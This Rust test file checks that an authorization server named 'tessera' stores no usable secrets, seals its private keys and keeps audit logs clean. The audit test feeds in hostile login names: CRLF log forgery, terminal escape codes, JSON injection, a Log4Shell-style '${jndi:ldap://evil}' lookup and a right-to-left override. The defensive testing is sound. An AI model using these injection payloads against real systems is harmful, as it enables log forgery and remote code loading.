//! A stolen database contains no usable secret (invariant I7). Stored text contains no control sequences for an operator's terminal.

use std::collections::{BTreeSet, HashMap};

use rstest::rstest;
use tessera_app::clients;
use tessera_jose::aead::SealingKey;
use tessera_jose::base64url;
use tessera_jose::digest::sha256;
use tessera_model::{ClientKind, KeyPurpose, Presented, PresentedKind};
use tessera_testkit::browser::query;
use tessera_testkit::evidence::Tokens;
use tessera_testkit::server::{Backend, PASSWORD, TestServer};

use crate::{SCOPE, submit_login};

/// Length of the parts that are searched for, because a long value may be spread over several database pages.
const PART: usize = 16;

/// The names of the values of which at least a part is in the files.
fn found<'a>(files: &[u8], values: &'a [(String, Vec<u8>)]) -> BTreeSet<&'a str> {
    let mut parts: HashMap<&[u8], &str> = HashMap::new();
    let mut begins = vec![false; 1 << 16];
    for (name, value) in values {
        assert!(value.len() >= PART, "{name}: short values are found by chance");
        for part in value.chunks_exact(PART) {
            begins[usize::from(part[0]) << 8 | usize::from(part[1])] = true;
            parts.insert(part, name);
        }
    }
    let candidates = files.windows(PART).filter(|w| begins[usize::from(w[0]) << 8 | usize::from(w[1])]);
    candidates.filter_map(|window| parts.get(window).copied()).collect()
}

#[tokio::test]
async fn s01_a_stolen_database_holds_no_secret_that_was_handed_out() {
    let server = TestServer::start(Backend::Sqlite).await;
    server.add_user("alice").await;
    let client = server.add_client_with(ClientKind::Web, |new| new.require_consent = true).await;
    let mut browser = server.browser();
    let path = server.authorize_path(&client, SCOPE, &[]);
    let end = server.authorize(&mut browser, &path, "alice").await;
    let code = query(&end, "code").unwrap();
    let first = Tokens::of(&server.redeem(&client, &code).await);
    let second = Tokens::of(&server.refresh_with(&client, &first.refresh).await);
    let waiting = server.code(&client, SCOPE, "alice").await;
    let rotated = clients::rotate_secret(&server.cli(), &client.id.parse().unwrap()).await.unwrap().secret;

    let presented = [
        (PresentedKind::AuthorizationCode, code.as_str()),
        (PresentedKind::AuthorizationCode, &waiting),
        (PresentedKind::RefreshToken, &first.refresh),
        (PresentedKind::RefreshToken, &second.refresh),
        (PresentedKind::ClientSecret, &client.secret),
        (PresentedKind::ClientSecret, &rotated),
        (PresentedKind::Session, &browser.cookies()["tessera_session"].clone()),
        (PresentedKind::Browser, &browser.cookies()["tessera_browser"].clone()),
        (PresentedKind::Device, &browser.cookies()["tessera_device"].clone()),
    ];
    let mut secrets = vec![("password".to_owned(), PASSWORD.as_bytes().to_vec())];
    for (kind, text) in presented {
        let secret = Presented::parse(kind, text).unwrap_or_else(|| panic!("{kind:?}"));
        // The secret part of every body is its last 256 bits.
        let proof = &secret.body()[secret.body().len() - 32..];
        let hex = format!("{:032x}", u128::from_be_bytes(*proof.first_chunk().unwrap()));
        let encoded = base64url::encode(proof);
        for spelling in [text.as_bytes(), proof, encoded.as_bytes(), hex.as_bytes()] {
            secrets.push((format!("{kind:?}"), spelling.to_vec()));
        }
    }
    for token in [&first.access, &first.id, &second.access] {
        let signature = token.rsplit('.').next().unwrap();
        secrets.push(("token".to_owned(), signature.as_bytes().to_vec()));
    }
    let files = server.files();
    assert_eq!(found(&files, &secrets), BTreeSet::new());
    // The digests are there instead. That also shows that the search works.
    let kept = [
        ("hash".to_owned(), b"$argon2id$v=19$m=64,t=1,p=1".to_vec()),
        ("address".to_owned(), b"alice@example.com".to_vec()),
        ("digest".to_owned(), session_digest(&browser.cookies()["tessera_session"])),
    ];
    assert_eq!(found(&files, &kept), BTreeSet::from(["address", "digest", "hash"]));
}

fn session_digest(cookie: &str) -> Vec<u8> {
    sha256(Presented::parse(PresentedKind::Session, cookie).unwrap().body()).to_vec()
}

#[tokio::test]
async fn s01_private_keys_are_sealed_for_their_row_and_purpose() {
    let server = TestServer::start(Backend::Sqlite).await;
    let files = server.files();
    let kek = SealingKey::new(&[7; 32]);
    let store = server.store().await;
    let keys = store.read(|tx| async move { tx.keys().list().await }).await.unwrap();
    assert_eq!(keys.len(), 6);
    for key in &keys {
        let sealed_as = match key.purpose {
            KeyPurpose::GrantTokens => "tickets".to_owned(),
            purpose => purpose.to_string(),
        };
        let binding = format!("tessera key {} {sealed_as}", key.id).into_bytes();
        let private = kek.open(&binding, &key.sealed).unwrap();
        let values = [("open".to_owned(), private.to_vec()), ("sealed".to_owned(), key.sealed.clone())];
        assert_eq!(found(&files, &values), BTreeSet::from(["sealed"]), "{}", key.purpose);
        // Somebody who can write rows still cannot swap two keys.
        let other = keys.iter().find(|other| other.id != key.id).unwrap();
        let moved = format!("tessera key {} {sealed_as}", other.id).into_bytes();
        let renamed =
            format!("tessera key {} {}", key.id, KeyPurpose::Access(tessera_jose::Algorithm::EdDsa));
        assert!(kek.open(&moved, &key.sealed).is_err() && kek.open(renamed.as_bytes(), &key.sealed).is_err());
    }
}

#[rstest]
#[tokio::test]
async fn a07_what_strangers_type_cannot_forge_an_audit_event(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let server = TestServer::start(backend).await;
    let typed = [
        "a\r\n2026-01-01 login.succeeded alice",
        "\u{1b}[2J\u{1b}]0;owned\u{7}",
        "\",\"code\":\"login.succeeded",
        "${jndi:ldap://evil}",
        "\u{202e}ecila",
        &"long ".repeat(2_000),
    ];
    for name in typed {
        let answer = submit_login(&mut server.browser(), "/login", name, "wrong password").await;
        assert_eq!(answer.status, 200, "{name:?}");
    }
    let events = server.audit_trail().await;
    let failed: Vec<_> = events.iter().filter(|event| event.code.as_str() == "login.failed").collect();
    assert_eq!(failed.len(), typed.len());
    for event in failed {
        let detail = event.detail.as_deref().unwrap();
        assert!(detail.len() <= 256 && detail.bytes().all(|c| (0x20..0x7f).contains(&c)), "{detail:?}");
    }
}
